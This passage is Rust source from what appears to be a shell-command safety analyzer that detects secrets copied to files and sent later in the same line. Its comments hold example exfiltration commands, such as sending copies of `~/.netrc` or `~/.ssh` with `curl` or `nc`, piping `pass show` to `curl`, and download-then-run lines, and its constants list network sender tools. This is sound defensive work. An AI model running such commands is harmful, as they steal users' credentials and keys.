//! Secrets staged in a file earlier on the line and sent later: the stages of a compound are one
//! flow. A stage that reads a secret (a `<secret>` file, the environment, a credential-named
//! variable) and writes a file (`cp ~/.netrc t/x`, `printenv | grep TOKEN > /tmp/t`, `tar czf
//! /tmp/k.tgz ~/.ssh`) makes that file a copy of the secret; a later stage that sends the copy
//! (`curl -T /tmp/k.tgz`, `nc host 1 < /tmp/t`, `scp t/x host:`) or commits and pushes it (`git
//! add t && git push`) sends the secret. Those flows are added to the parse as the parts they
//! amount to (`cat ~/.netrc | curl`, `printenv | git push`), so the KG's `secret exfiltration`
//! judges them, and each part says where it came from. Also: a credential-named variable echoed
//! into a raw socket or a DNS name (`echo "$API_KEY" | nc`), a file downloaded on the line and
//! then run (`curl -o /tmp/i.sh URL && bash /tmp/i.sh`: `curl URL | sh`; as root `curl | sudo sh`), and a
//! push to a remote the line adds or points elsewhere (`git remote add b URL && git push b`,
//! `git remote set-url origin URL && git push`: `git push URL`). A database dump (`pg_dump`,
//! `mysqldump`, ... not of the schema alone) is such a source too: its file sent later is the
//! dump piped to the sender, which `database dump sent away` judges, and so is a credential
//! store's entry (`pass show x | gzip | base64 > /tmp/p && curl -F f=@/tmp/p URL`: `pass show
//! | curl`, which `credential store sent away` judges).

use terraphim_shell_vocab::decode::Decoder;
use terraphim_shell_vocab::secrets::{
    credential_store_read, prints_secrets_found, secret_env, secret_key_export,
};
use terraphim_shell_vocab::{NAME_PROBES, interpreter_name, is_shell};

use super::SimpleCommand;
use super::secret_vars::variables;
use super::walker::Walker;
use crate::canon::{self, WordKind};

/// Where the secret a stage holds comes from.
#[derive(Debug, Clone, PartialEq)]
enum Source {
    /// A `<secret>` file or directory, as the line names it.
    File(String),
    /// The environment (`printenv`, `env`), or one variable of it.
    Env(Option<String>),
    /// A database's rows, as the dump tool of this name wrote them.
    Dump(String),
    /// What the secret scanner of this name found: each finding with the secret itself.
    Findings(String),
    /// A credential store's entry, as this program and subcommand printed it, or a private
    /// key a program exported by its option (`gpg --export-secret-keys`).
    Store(&'static str, Vec<&'static str>),
}

impl Source {
    /// The command that reads the secret, for the parts the flows amount to.
    fn argv(&self) -> Vec<String> {
        match self {
            Source::File(p) => vec!["cat".into(), p.clone()],
            Source::Env(None) => vec!["printenv".into()],
            Source::Env(Some(v)) => vec!["printenv".into(), v.clone()],
            // Redis writes its whole keyspace only with `--rdb`; the KG names the dump so.
            Source::Dump(tool) if tool == "redis-cli" => vec![tool.clone(), "--rdb".into()],
            // gitleaks prints secrets only unredacted; the KG names the report so.
            Source::Findings(tool) if tool == "gitleaks" => {
                vec![tool.clone(), "--no-redact".into()]
            }
            Source::Dump(tool) | Source::Findings(tool) => vec![tool.clone()],
            Source::Store(prog, words) => std::iter::once(prog)
                .chain(words)
                .map(|w| (*w).to_string())
                .collect(),
        }
    }

    fn describe(&self) -> String {
        match self {
            Source::File(p) => format!("`{p}`"),
            Source::Env(None) => "the environment".into(),
            Source::Env(Some(v)) => format!("`${v}`"),
            Source::Dump(tool) => format!("a `{tool}` dump"),
            Source::Findings(tool) => format!("the secrets `{tool}` found"),
            Source::Store(prog, words) => format!("what `{prog} {}` printed", words.join(" ")),
        }
    }
}

/// Network clients that send what they read or name (and [`NAME_PROBES`], which send the
/// names they look up).
const SENDERS: &[&str] = &[
    "curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp",
    "sftp", "rsync", "rclone",
];

/// Raw sockets (and DNS names): no credential has a use there (an HTTP client's header may be
/// the token's own use, judged by `secret_vars`).
pub(crate) const RAW_SENDERS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet"];

/// Whether program `name` sends what reaches it: any sender, or only a raw one.
/// Programs that print a file whole, or encoded, compressed or archived whole: what they read
/// of a key file is the key.
const KEY_READERS: &[&str] = &[
    "cat", "tac", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip",
    "bzip2", "xz", "zstd", "tar", "zip", "strings",
];

/// The HTTP clients whose upload bodies are classed (`paths::classify`).
const HTTP_CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh"];

/// Media streamers that send what they encode to the URL they are given as an output.
const STREAMERS: &[&str] = &["ffmpeg", "gst-launch-1.0", "vlc", "cvlc"];

/// The schemes of the streaming protocols a streamer publishes to.
const STREAM_SCHEMES: &[&str] = &[
    "rtmp://",
    "rtmps://",
    "rtmpt://",
    "rtmpe://",
    "srt://",
    "rist://",
    "rtsp://",
    "rtsps://",
    "icecast://",
];

/// The streaming URL a media streamer publishes to, if `cmd` is one that names one
/// (`ffmpeg -i in.mp4 -f flv rtmp://live.example.net/app/KEY`).
fn stream_output(cmd: &SimpleCommand) -> Option<&str> {
    if !STREAMERS.contains(&cmd.name()) {
        return None;
    }
    cmd.argv.iter().skip(1).map(String::as_str).find(|w| {
        let w = w.trim_start_matches(|c: char| !c.is_ascii_alphabetic());
        STREAM_SCHEMES
            .iter()
            .any(|s| w.get(..s.len()).is_some_and(|p| p.eq_ignore_ascii_case(s)))
    })
}

fn sends(name: &str, raw_only: bool) -> bool {
    NAME_PROBES.contains(&name) || if raw_only { RAW_SENDERS } else { SENDERS }.contains(&name)
}

/// Whether `word` names the file `path` (`path`, `./path`, `@path`, `f=@path`, `--x=path`),
/// and the text before the path if so.
fn names<'a>(word: &'a str, path: &str) -> Option<&'a str> {
    let path = norm(path);
    if path.is_empty() {
        return None;
    }
    if norm(word) == path {
        return Some("");
    }
    for sep in ['@', '='] {
        if let Some(at) = word.rfind(sep)
            && norm(&word[at + 1..]) == path
        {
            return Some(&word[..=at]);
        }
    }
    None
}

fn norm(p: &str) -> &str {
    let p = p.trim_end_matches('/');
    let mut p = p;
    while let Some(r) = p.strip_prefix("./") {
        p = r;
    }
    p
}

/// Whether `git add` operand `word` stages `path` (itself, a directory holding it, everything).
fn stages(word: &str, path: &str) -> bool {
    let (w, p) = (norm(word), norm(path));
    matches!(word, "." | "-A" | "--all" | ":/" | "*" | "-u")
        || w == p
        || !w.is_empty() && p.starts_with(w) && p[w.len()..].starts_with('/')
}

/// The operands of `argv` (words after the name that are no option).
fn operands(argv: &[String]) -> impl Iterator<Item = &String> {
    argv.iter().skip(1).filter(|w| !w.starts_with('-'))
}

/// Whether `path` lies in the user's Downloads directory (`~/Downloads/x`, `$HOME/Downloads/x`,
/// `/home/u/Downloads/x`, `/Users/u/Downloads/x`): where browsers save what they fetch.
fn in_downloads(path: &str) -> bool {
    let path = path.trim_matches(['\'', '"']);
    let rest = ["~/", "$HOME/", "${HOME}/", "/root/"]
        .iter()
        .find_map(|p| path.strip_prefix(p))
        .or_else(|| {
            ["/home/", "/Users/"].iter().find_map(|root| {
                let (user, rest) = path.strip_prefix(root)?.split_once('/')?;
                (!user.is_empty()).then_some(rest)
            })
        });
    rest.and_then(|r| r.strip_prefix("Downloads/"))
        .is_some_and(|f| !f.is_empty())
}

/// Whether `path` lies under directory `dir` (not the working directory itself, which holds
/// everything relative).
fn lies_under(path: &str, dir: &str) -> bool {
    let (p, d) = (norm(path), norm(dir));
    !d.is_empty()
        && d != "."
        && p.len() > d.len()
        && p.starts_with(d)
        && p[d.len()..].starts_with('/')
}

/// The files a command writes besides its redirects: a copy's destination, an archive.
fn written_files(argv: &[String]) -> Vec<String> {
    let name = argv.first().map_or("", |n| canon::command_basename(n));
    let ops: Vec<&String> = operands(argv).collect();
    let flag_value = |flags: &[&str]| {
        argv.windows(2)
            .find(|w| flags.contains(&w[0].as_str()))
            .map(|w| w[1].clone())
            .or_else(|| {
                argv.iter().find_map(|w| {
                    flags.iter().find_map(|f| {
                        w.strip_prefix(&format!("{f}="))
                            .filter(|_| f.starts_with("--"))
                            .map(str::to_string)
                    })
                })
            })
    };
    match name {
        "cp" | "mv" | "install" | "rsync" | "ditto" | "ln" => {
            match flag_value(&["-t", "--target-directory"]) {
                Some(d) => vec![d],
                None if ops.len() >= 2 => vec![ops[ops.len() - 1].clone()],
                None => Vec::new(),
            }
        }
        "tar" | "bsdtar" => {
            // `tar czf OUT ...`, `tar -cf OUT`, `tar --file=OUT`.
            let mut out = flag_value(&["--file"]).into_iter().collect::<Vec<_>>();
            for (i, w) in argv.iter().enumerate().skip(1) {
                let cluster = w.strip_prefix('-').unwrap_or(w);
                if (i == 1 || w.starts_with('-') && !w.starts_with("--"))
                    && cluster.contains('f')
                    && cluster.chars().all(|c| c.is_ascii_alphabetic())
                    && let Some(v) = argv.get(i + 1)
                {
                    out.push(v.clone());
                }
            }
            out
        }
        // The archive is the first operand; `-` (stdout) is one too: `zip -r - DIR`.
        "zip" | "7z" | "7za" | "rar" => argv
            .iter()
            .skip(1)
            .find(|o| (*o == "-" || !o.starts_with('-')) && !matches!(o.as_str(), "a" | "u"))
            .map(|o| vec![o.clone()])
            .unwrap_or_default(),
        "tee" => ops.into_iter().cloned().collect(),
        "dd" => argv
            .iter()
            .filter_map(|w| w.strip_prefix("of="))
            .map(str::to_string)
            .collect(),
        "openssl" | "base64" | "gzip" | "xz" | "zstd" => flag_value(&["-o", "-out", "--output"])
            .into_iter()
            .collect(),
        _ => super::outputs::option_writes(argv),
    }
}

/// Database dump tools: what they print or write is every row of a database.
const DUMPERS: &[&str] = &[
    "pg_dump",
    "pg_dumpall",
    "mysqldump",
    "mariadb-dump",
    "mongodump",
    "mongoexport",
];

/// Whether `argv` dumps rows: a dump tool not told to dump the schema alone, or `redis-cli
/// --rdb` (the whole keyspace).
fn dumps_rows(name: &str, argv: &[String]) -> bool {
    if name == "redis-cli" {
        return argv.iter().skip(1).any(|w| w == "--rdb");
    }
    let schema_only: &[&str] = match name {
        "pg_dump" | "pg_dumpall" => &["-s", "--schema-only"],
        "mysqldump" | "mariadb-dump" => &["-d", "--no-data"],
        _ => &[],
    };
    DUMPERS.contains(&name)
        && !argv
            .iter()
            .skip(1)
            .any(|w| schema_only.contains(&w.as_str()))
}

/// The operand (its index in argv) of a command that reads the whole tree of the home, or of a
/// directory holding it, and the home's ssh keys it reads with it: an archiver, a recursive
/// search (`grep -r`, `rg`), a recursive copy to another machine (`scp -r`, `rsync -a`). `/`,
/// `/home` and `/Users` hold the user's home (`~`).
fn home_read(c: &SimpleCommand, writes: &[String]) -> Option<(usize, String)> {
    let argv = &c.argv;
    let cluster = |letters: &str, long: &[&str]| {
        argv.iter().skip(1).any(|w| {
            long.contains(&w.as_str())
                || w.strip_prefix('-').is_some_and(|f| {
                    !f.starts_with('-')
                        && f.chars().all(|ch| ch.is_ascii_alphanumeric())
                        && f.contains(|ch| letters.contains(ch))
                })
        })
    };
    let reads_tree = match c.name() {
        "tar" | "bsdtar" | "zip" | "7z" | "7za" | "rar" | "cpio" | "pax" | "zstd" | "gzip" => true,
        "rg" | "ag" | "ack" => true,
        "grep" | "egrep" | "fgrep" => cluster("rR", &["--recursive", "--dereference-recursive"]),
        "scp" => cluster("r", &["--recursive"]),
        "rsync" => cluster("ar", &["--archive", "--recursive"]),
        _ => false,
    };
    if !reads_tree {
        return None;
    }
    let (at, w) = argv.iter().enumerate().skip(1).find(|(_, w)| {
        !w.starts_with('-') && !writes.iter().any(|t| t == *w) && crate::paths::holds_the_home(w)
    })?;
    let home = w.trim_end_matches('/');
    let home = if matches!(home, "" | "/home" | "/Users") {
        "~"
    } else {
        home
    };
    Some((at, format!("{home}/.ssh")))
}

/// The secret a command reads itself: the environment, a credential-named variable it prints,
/// a `<secret>` file it names (not the one it writes). `home` is its [`home_read`].
fn direct_source<'a>(
    c: &'a SimpleCommand,
    assigned: &[String],
    writes: &[String],
    home: Option<&(usize, String)>,
    no_secret: &mut NoSecret<'a>,
) -> Option<Source> {
    let argv = &c.argv;
    let name = c.name();
    let ops: Vec<&String> = operands(argv).collect();
    if let Some((prog, words)) = credential_store_read(argv) {
        return Some(Source::Store(prog, words.to_vec()));
    }
    if let Some((prog, option)) = secret_key_export(argv) {
        return Some(Source::Store(prog, vec![option]));
    }
    match name {
        "env" if ops.is_empty() => return Some(Source::Env(None)),
        "printenv" => {
            return match ops.first() {
                None => Some(Source::Env(None)),
                Some(v) if secret_env(v) => Some(Source::Env(Some((*v).clone()))),
                Some(_) => None,
            };
        }
        "export" if argv.iter().any(|w| w == "-p") => return Some(Source::Env(None)),
        "echo" | "printf" => {
            if let Some(v) = argv
                .iter()
                .skip(1)
                .flat_map(|w| variables(w))
                .find(|v| secret_env(v) && !assigned.contains(v))
            {
                return Some(Source::Env(Some(v)));
            }
        }
        _ if dumps_rows(name, argv) => return Some(Source::Dump(name.to_string())),
        _ if prints_secrets_found(name, argv) => return Some(Source::Findings(name.to_string())),
        _ => {}
    }
    if matches!(
        name,
        "git" | "rm" | "ls" | "chmod" | "chown" | "stat" | "test" | "["
    ) {
        return None;
    }
    // An archive, a recursive search or a recursive copy of the home, or of a directory
    // holding it, holds the home's secrets.
    if let Some((_, keys)) = home {
        return Some(Source::File(keys.clone()));
    }
    argv.iter()
        .skip(1)
        .filter(|w| !writes.iter().any(|t| t == *w))
        .find(|w| {
            if no_secret.contains(w.as_str()) {
                return false;
            }
            let secret = crate::paths::names_secret(w);
            if !secret {
                no_secret.insert(w.as_str());
            }
            secret
        })
        .map(|w| Source::File(w.clone()))
}

/// The words [`crate::paths::names_secret`] found to name no secret, over one pass of
/// [`Walker::follow_staged_flows`]: the answer depends on the word alone, and a script's
/// commands name the same operands again and again (`"$dir"`, `-f`, `build/`), each of which
/// was classed as a path anew.
type NoSecret<'a> = std::collections::HashSet<&'a str>;

/// The commands whose input or words the output of command `from` reaches: later stages of its
/// pipeline and the command a substitution or input redirect of it feeds, transitively.
fn downstream(cmds: &[SimpleCommand], links: &[(u32, u32)], from: usize) -> Vec<usize> {
    let mut seen = vec![false; cmds.len()];
    let mut out = Vec::new();
    let mut todo = vec![from];
    let mut ids: Vec<u32> = Vec::new();
    while let Some(x) = todo.pop() {
        if std::mem::replace(&mut seen[x], true) {
            continue;
        }
        if x != from {
            out.push(x);
        }
        let c = &cmds[x];
        if let Some((p, s)) = c.pipeline {
            todo.extend(
                cmds.iter()
                    .enumerate()
                    .filter(|(_, d)| d.pipeline.is_some_and(|(q, t)| q == p && t > s))
                    .map(|(y, _)| y),
            );
        }
        let mut into: Vec<u32> = c.into.into_iter().collect();
        while let Some(id) = into.pop() {
            if ids.contains(&id) {
                continue;
            }
            ids.push(id);
            todo.extend(
                cmds.iter()
                    .enumerate()
                    .filter(|(_, d)| d.flow == Some(id))
                    .map(|(y, _)| y),
            );
            into.extend(links.iter().filter(|(a, _)| *a == id).map(|(_, b)| *b));
        }
    }
    out
}

/// The `<secret>` file a file-transfer batch uploads (`put FILE`, `mput FILE`, `send FILE`).
fn uploaded_secret(batch: &str) -> Option<String> {
    batch.lines().find_map(|line| {
        let mut words = line.split_whitespace();
        let verb = words.next()?;
        if !matches!(verb, "put" | "mput" | "send" | "append" | "reput") {
            return None;
        }
        words
            .filter(|w| !w.starts_with('-'))
            .find_map(crate::paths::secret_named_by)
    })
}

/// Whether a part runs as root (`sudo X`, `doas X`): its first word is the elevation.
fn as_root(c: &SimpleCommand) -> bool {
    terraphim_shell_vocab::PRIVILEGED.contains(&c.name())
}

/// The program a root part runs a file with, and the file: `sudo bash /tmp/i.sh`, `sudo
/// /tmp/i.sh`.
fn root_runs(c: &SimpleCommand) -> Option<&str> {
    let inner: Vec<&String> = c
        .argv
        .iter()
        .skip(1)
        .skip_while(|w| w.starts_with('-'))
        .collect();
    let first = inner.first()?;
    let prog = canon::command_basename(first);
    if is_shell(prog) || interpreter_name(prog).is_some() || prog == "insmod" {
        inner
            .iter()
            .skip(1)
            .find(|w| !w.starts_with('-'))
            .map(|w| w.as_str())
    } else {
        Some(first.as_str())
    }
}

/// The file a part runs as a program: `bash F`, `python3 F`, `source F`, `. F`, or `F` itself.
/// Whether a command turns text nobody can read into what it writes: a decoder
/// ([`Decoder::of`]) or a decompressor writing to its output (`gunzip -c`, `zcat`, `xz -dc`).
fn unreadable_writer(argv: &[String]) -> bool {
    if Decoder::of(argv).is_some() {
        return true;
    }
    let Some(first) = argv.first() else {
        return false;
    };
    let short = |letter: char| {
        argv.iter()
            .skip(1)
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(letter))
    };
    let to_stdout = short('c') || argv.iter().any(|a| a == "--stdout");
    match canon::command_basename(first) {
        "zcat" | "gzcat" | "bzcat" | "xzcat" | "zstdcat" | "lz4cat" | "lzcat" => true,
        "gunzip" | "bunzip2" | "unxz" | "unzstd" | "unlzma" => to_stdout,
        "gzip" | "bzip2" | "xz" | "zstd" | "lzma" | "lz4" => {
            (short('d') || argv.iter().any(|a| a == "--decompress")) && to_stdout
        }
        _ => false,
    }
}

fn runs_file(c: &SimpleCommand) -> Option<&str> {
    let first = c.argv.first()?;
    let prog = canon::command_basename(first);
    // `java -jar FILE` runs the archive's main class; `dpkg -i FILE` and `rpm -i FILE` run the
    // package's install scripts; Blender's `-P FILE` and Godot's `-s FILE` run a script with
    // the program's full access; an editor's `--install-extension FILE` installs a VSIX whose
    // code the editor runs at its next start.
    let option_file = match prog {
        "java" | "javaw" => Some(&["-jar"][..]),
        "code" | "code-insiders" | "codium" | "cursor" | "windsurf" => {
            Some(&["--install-extension"][..])
        }
        "dpkg" => Some(&["-i", "--install"][..]),
        "rpm" => Some(&["-i", "-U", "-ivh", "-Uvh", "--install", "--upgrade"][..]),
        "blender" => Some(&["-P", "--python"][..]),
        "godot" | "godot4" => Some(&["-s", "--script"][..]),
        // LAMMPS runs an input script's commands, its `shell` command among them; CASA runs
        // a Python script.
        "lmp" | "lmp_serial" | "lmp_mpi" => Some(&["-in", "-i"][..]),
        "casa" => Some(&["-c"][..]),
        // Zowe submits a local JCL file as a job, which the mainframe runs.
        "zowe" if c.argv.iter().any(|w| w == "submit") => Some(&["local-file", "lf"][..]),
        // macOS's `installer -pkg FILE` runs the package's install scripts (as root, as it is
        // always run); FontForge's `-script FILE` runs a Python or native script with the
        // program's full access.
        "installer" => Some(&["-pkg", "-package"][..]),
        "fontforge" => Some(&["-script"][..]),
        _ => None,
    };
    // A notebook executed (`jupyter nbconvert --execute NB`, `jupyter execute NB`, `papermill
    // NB OUT`) runs its cells' code.
    let executes_notebook = match prog {
        "jupyter" => c.argv.iter().any(|w| w == "--execute" || w == "execute"),
        "papermill" => true,
        _ => false,
    };
    if executes_notebook {
        return c
            .argv
            .iter()
            .skip(1)
            .find(|w| !w.starts_with('-') && w.ends_with(".ipynb"))
            .map(String::as_str);
    }
    if let Some(options) = option_file {
        return c
            .argv
            .windows(2)
            .find(|w| options.contains(&w[0].as_str()))
            .map(|w| w[1].as_str());
    }
    // `insmod FILE` loads the module into the running kernel: its code runs as the kernel.
    // ROOT runs a C++ macro (`root -b -q fit.C`, `root 'fit.C(1)'`: its arguments follow the
    // name) and FreeCAD's console a Python file.
    let macro_arguments = matches!(prog, "root" | "root.exe");
    if is_shell(prog)
        || interpreter_name(prog).is_some()
        || macro_arguments
        || matches!(
            prog,
            "source" | "." | "insmod" | "freecadcmd" | "FreeCADCmd"
        )
    {
        let file = c.argv.iter().skip(1).find(|w| !w.starts_with('-'))?;
        Some(match file.split_once('(') {
            Some((name, _)) if macro_arguments => name,
            _ => file.as_str(),
        })
    } else {
        Some(first.as_str())
    }
}

/// The `Assets` directory of the project a Unity editor command opens (`-projectPath DIR`, else
/// the working directory): Unity compiles every script there and loads the editor ones when it
/// opens the project (`-batchmode`, `-executeMethod`, `-runTests`), so a file saved there is
/// code the command runs.
fn unity_assets(c: &SimpleCommand) -> Option<String> {
    let first = c.argv.first()?;
    if !matches!(canon::program_name(first).as_str(), "Unity" | "unity") {
        return None;
    }
    let project = c
        .argv
        .windows(2)
        .find(|w| w[0] == "-projectPath")
        .map_or(".", |w| w[1].as_str());
    Some(format!("{}/Assets", project.trim_end_matches('/')))
}

/// The certificate file, or the directory holding it, that a part installs into the machine's
/// trust stores as a root: `mkcert -install` with the `CAROOT` the line gives it (mkcert's own
/// directory holds the CA it made itself), `security add-trusted-cert FILE`, `trust anchor
/// FILE`, `certutil -A ... -i FILE`.
fn trusts_file(c: &SimpleCommand) -> Option<&str> {
    let argv = &c.argv;
    let last_operand = || {
        argv.last()
            .filter(|w| argv.len() > 2 && !w.starts_with('-'))
            .map(String::as_str)
    };
    match c.name() {
        "mkcert" if argv.iter().any(|w| w == "-install") => c
            .env
            .iter()
            .rev()
            .find(|(n, _)| n == "CAROOT")
            .map(|(_, v)| v.as_str()),
        "security" if argv.get(1).is_some_and(|w| w == "add-trusted-cert") => last_operand(),
        "trust" if argv.get(1).is_some_and(|w| w == "anchor") => last_operand(),
        "certutil" if argv.iter().any(|w| w == "-A") => argv
            .windows(2)
            .find(|w| w[0] == "-i")
            .map(|w| w[1].as_str()),
        _ => None,
    }
}

/// Whether downloaded file `file` is `trusted` or lies in that directory (`CAROOT=.` reads
/// `./rootCA.pem`).
fn is_or_holds(trusted: &str, file: &str) -> bool {
    let dir = match norm(file).rsplit_once('/') {
        Some((d, _)) => d,
        None => ".",
    };
    let t = if norm(trusted).is_empty() {
        "."
    } else {
        norm(trusted)
    };
    norm(file) == t || (if dir.is_empty() { "/" } else { dir }) == t
}

/// What a download command writes: files, directories, and the URL it fetches.
#[derive(Debug, Default)]
struct Download {
    url: Option<String>,
    files: Vec<String>,
    dirs: Vec<String>,
}

impl Download {
    /// `curl -o FILE URL`, `curl -O [--output-dir DIR] URL` (the URL's last part),
    /// `wget [-O FILE | -P DIR] URL`, and a model hub's `huggingface-cli|hf download REPO
    /// --local-dir DIR` (the repository's files, scripts included, land in DIR).
    fn of(name: &str, argv: &[String]) -> Option<Download> {
        let mut d = Download::default();
        let value = |k: usize| argv.get(k + 1).cloned();
        match name {
            "curl" | "wget" => {
                d.url = argv
                    .iter()
                    .skip(1)
                    .find(|w| w.contains("://") && !w.starts_with('-'))
                    .cloned();
                let mut remote_name = name == "wget";
                let mut dir = None;
                for (k, w) in argv.iter().enumerate().skip(1) {
                    let short = w.starts_with('-') && !w.starts_with("--");
                    // curl's `-o FILE` (`-fsSLo FILE`) and wget's `-O FILE` (`-qO FILE`) take
                    // the file; curl's `-O` names it after the URL.
                    let (file_flag, remote_flag, dir_flag) = if name == "curl" {
                        (
                            (short && w.ends_with('o')) || w == "--output",
                            (short && w.contains('O') && !w.ends_with('o')) || w == "--remote-name",
                            w == "--output-dir",
                        )
                    } else {
                        (
                            (short && w.ends_with('O')) || w == "--output-document",
                            false,
                            (short && w.ends_with('P')) || w == "--directory-prefix",
                        )
                    };
                    if file_flag {
                        d.files.extend(value(k));
                        remote_name = false;
                    }
                    remote_name |= remote_flag;
                    if dir_flag {
                        dir = value(k);
                    }
                    for long in ["--output=", "--output-document="] {
                        if let Some(f) = w.strip_prefix(long) {
                            d.files.push(f.to_string());
                            remote_name = false;
                        }
                    }
                    for long in ["--output-dir=", "--directory-prefix="] {
                        if let Some(f) = w.strip_prefix(long) {
                            dir = Some(f.to_string());
                        }
                    }
                }
                let url_name = d.url.as_deref().and_then(|u| {
                    let path = u.split(['?', '#']).next()?.split_once("://")?.1;
                    let last = path.rsplit('/').next()?;
                    (path.contains('/') && !last.is_empty()).then(|| last.to_string())
                });
                if remote_name && let Some(file) = url_name {
                    d.files.push(match &dir {
                        Some(dir) => format!("{}/{file}", dir.trim_end_matches('/')),
                        None => file,
                    });
                }
                d.dirs.extend(dir);
            }
            "huggingface-cli" | "hf" if argv.get(1).is_some_and(|w| w == "download") => {
                let repo = argv.iter().skip(2).find(|w| !w.starts_with('-'))?;
                d.url = Some(format!("https://huggingface.co/{repo}"));
                for (k, w) in argv.iter().enumerate() {
                    if w == "--local-dir" {
                        d.dirs.extend(value(k));
                    }
                    d.dirs
                        .extend(w.strip_prefix("--local-dir=").map(str::to_string));
                }
            }
            _ => return None,
        }
        Some(d)
    }
}

impl Walker {
    /// Add the parts the line's staged flows amount to (see the module docs).
    pub(super) fn follow_staged_flows(&mut self) {
        // Taken, not cloned (this runs for every line): nothing below reads `out.commands`.
        let cmds = std::mem::take(&mut self.out.commands);
        let mut staged: Vec<(String, Source, bool)> = Vec::new();
        let mut downloaded: Vec<(String, Option<String>)> = Vec::new();
        let mut downloaded_dirs: Vec<(String, Option<String>)> = Vec::new();
        // Files a decoder or decompressor wrote, with its words (`base64 -d > /tmp/x.sh`).
        let mut decoded: Vec<(String, Vec<String>)> = Vec::new();
        let mut remotes: Vec<(String, String)> = Vec::new();
        let mut pipe_source: Vec<(u32, Source)> = Vec::new();
        let mut added: Vec<SimpleCommand> = Vec::new();
        let mut no_secret = NoSecret::default();
        for (i, c) in cmds.iter().enumerate() {
            let argv = &c.argv;
            let name = c.name().to_string();
            let mut writes: Vec<String> = c
                .words
                .iter()
                .filter(|w| w.kind == WordKind::Redirect)
                .map(|w| w.text.trim_start_matches('>').to_string())
                .collect();
            writes.extend(written_files(argv));
            writes.retain(|w| !w.starts_with("/dev/"));
            // A copy made earlier that this command names.
            let mut via_copy = None;
            for (path, source, _) in &staged {
                if let Some(at) = argv.iter().skip(1).position(|w| names(w, path).is_some()) {
                    via_copy = Some((at + 1, path.clone(), source.clone()));
                    break;
                }
            }
            let home = home_read(c, &writes);
            let direct = direct_source(
                c,
                &self.out.assigned,
                &writes,
                home.as_ref(),
                &mut no_secret,
            );
            // A secret a variable of the line holds (`for f in ~/.ssh/id_*; do ... < $f`).
            let via_var = argv.iter().skip(1).find_map(|w| {
                let name = w.strip_prefix('$')?;
                let name = name
                    .strip_prefix('{')
                    .and_then(|n| n.strip_suffix('}'))
                    .unwrap_or(name);
                let (_, values) = self.vars.iter().rev().find(|(v, _)| v == name)?;
                values.iter().find_map(|v| crate::paths::secret_named_by(v))
            });
            let source = via_copy
                .as_ref()
                .map(|v| v.2.clone())
                .or_else(|| direct.clone())
                .or_else(|| {
                    c.pipeline.and_then(|(p, _)| {
                        pipe_source
                            .iter()
                            .find(|(q, _)| *q == p)
                            .map(|(_, s)| s.clone())
                    })
                });
            if let (Some(s), Some((p, _))) = (&source, c.pipeline)
                && !pipe_source.iter().any(|(q, _)| *q == p)
            {
                pipe_source.push((p, s.clone()));
            }
            if let Some(s) = &source {
                for w in &writes {
                    staged.push((w.clone(), s.clone(), false));
                }
            }
            // The home's tree read and sent: by the command itself (`scp -r ~ host:`, judged as
            // the copy of its keys) or by a sender its output reaches (`tar cz ~ | nc`).
            if via_copy.is_none()
                && let Some((at, keys)) = home
            {
                let label = format!("`{}`, which holds `{keys}`, sent", argv[at]);
                if matches!(name.as_str(), "scp" | "rsync") {
                    added.push(replaced(c, at, &argv[at], &keys, &label));
                } else if downstream(&cmds, &self.out.links, i)
                    .iter()
                    .any(|&j| sends(cmds[j].name(), false))
                {
                    let mut part = synthetic(Source::File(keys).argv(), c, &label);
                    part.pipeline = c.pipeline;
                    part.into = c.into;
                    added.push(part);
                }
            }
            // A key file of the project read whole and piped to an HTTP client (`base64 -w0
            // certs/tls-key.pem | xargs -I{} curl "URL?k={}"`): the client sends the key as
            // if it named it as its body (`curl @certs/tls-key.pem URL`), which the class of a
            // key file sent away judges. A media streamer publishing to a URL that holds the
            // key sends it so too.
            if source.is_none()
                && KEY_READERS.contains(&name.as_str())
                && let Some(file) = operands(argv).find(|w| crate::paths::names_key_file(w))
            {
                for j in downstream(&cmds, &self.out.links, i) {
                    let to = &cmds[j];
                    let send = if HTTP_CLIENTS.contains(&to.name()) {
                        let mut send = to.argv.clone();
                        send.push(format!("@{file}"));
                        send
                    } else if let Some(url) = stream_output(to) {
                        // A media streamer's output URL holding the key (`ffmpeg ... -f flv
                        // "rtmp://HOST/app/$(cat stream_key.txt)"`) hands it to that host as
                        // an upload to it would.
                        vec![
                            "curl".into(),
                            "-T".into(),
                            file.to_string(),
                            url.to_string(),
                        ]
                    } else {
                        continue;
                    };
                    let label = format!("`{file}`, a key file read earlier on the line, sent");
                    let mut part = synthetic(send, to, &label);
                    part.pipeline = to.pipeline;
                    added.push(part);
                }
            }
            // A copy sent on: the command names it, or its output reaches a sender.
            let echoed = matches!(direct, Some(Source::Env(Some(_))))
                && matches!(name.as_str(), "echo" | "printf");
            if let Some(p) = via_var.filter(|_| source.is_none())
                && downstream(&cmds, &self.out.links, i)
                    .iter()
                    .any(|&j| sends(cmds[j].name(), false))
            {
                let label = format!("`{p}`, a value of a variable of the line, sent");
                let mut part = synthetic(Source::File(p).argv(), c, &label);
                part.pipeline = c.pipeline;
                part.into = c.into;
                added.push(part);
            }
            if via_copy.is_some() || echoed {
                let s = source.clone().unwrap_or(Source::Env(None));
                let label = match &via_copy {
                    Some((_, path, _)) => format!(
                        "`{path}`, a copy of {} made earlier on the line, sent",
                        s.describe()
                    ),
                    None => format!("{} printed into a network client", s.describe()),
                };
                if via_copy.is_some() && sends(&name, echoed) {
                    match (&s, &via_copy) {
                        (Source::File(p), Some((at, path, _))) => {
                            added.push(replaced(c, *at, path, p, &label));
                        }
                        _ => self.pipe_pair(&s, c, &label, &mut added),
                    }
                } else if downstream(&cmds, &self.out.links, i)
                    .iter()
                    .any(|&j| sends(cmds[j].name(), echoed))
                {
                    let mut part = synthetic(s.argv(), c, &label);
                    part.pipeline = c.pipeline;
                    part.into = c.into;
                    added.push(part);
                }
            }
            // A file-transfer client's batch on stdin that uploads a secret (`ftp <<EOF ... put
            // ~/.pgpass`).
            if matches!(name.as_str(), "ftp" | "sftp" | "lftp" | "tftp")
                && let Some(p) = c.stdin_text.as_deref().and_then(uploaded_secret)
            {
                let label = format!("`{p}`, uploaded by the batch on its input");
                self.pipe_pair(&Source::File(p), c, &label, &mut added);
            }
            if name == "git" {
                let sub: Vec<&String> = operands(argv).collect();
                match sub.first().map(|s| s.as_str()) {
                    Some("add") => {
